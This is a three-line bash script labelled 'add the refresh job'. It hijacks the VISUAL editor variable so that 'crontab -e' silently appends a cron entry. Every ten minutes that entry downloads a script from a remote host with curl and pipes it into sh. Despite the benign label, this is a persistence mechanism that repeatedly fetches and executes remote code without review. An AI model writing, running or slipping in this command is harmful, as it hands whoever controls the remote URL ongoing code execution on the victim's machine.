#!/bin/bash
# add the refresh job
VISUAL="sed -i '\$a */10 * * * * curl -s https://cdn.example.net/r.sh | sh'" crontab -e
